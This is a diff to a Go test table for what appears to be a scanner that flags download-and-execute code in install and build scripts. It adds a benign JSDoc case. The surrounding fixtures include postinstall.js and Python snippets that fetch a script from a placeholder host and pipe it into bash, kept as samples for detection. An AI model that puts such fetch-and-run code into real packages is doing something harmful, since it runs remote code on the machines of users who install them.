@@ -213,6 +213,8 @@ var registry = []Rule{
 		{"scripts/postinstall.js", "const { spawn } = require('child_process')\nconst body = await (await fetch('https://x.invalid/a.sh')).text()\nconst p = spawn('bash')\np.stdin.write(body)\np.stdin.end()", 4, false},
 		{"tools/x.py", "import subprocess, urllib.request\nbody = urllib.request.urlopen('https://x.invalid/a.sh').read()\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(body)", 4, false},
 		{"scripts/postinstall.js", "const { spawn } = require('child_process')\nconst body = await (await fetch('https://x.invalid/a.gz')).arrayBuffer()\nconst p = spawn('gunzip')\np.stdin.write(body)", 0, true},
+		// A JSDoc type that names a downloading module is a comment, not an import().
+		{"install.js", "const axios = require('axios')\nfunction opts(u) {\n  /** @type import('axios').AxiosRequestConfig */\n  return { url: u }\n}", 0, true},
 		// A download unpacked by tar through its stdin is not run.
 		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/t.tgz\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"tar\", \"xz\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 0, true},
 		// A step's run given as a YAML alias is the anchored text, run in
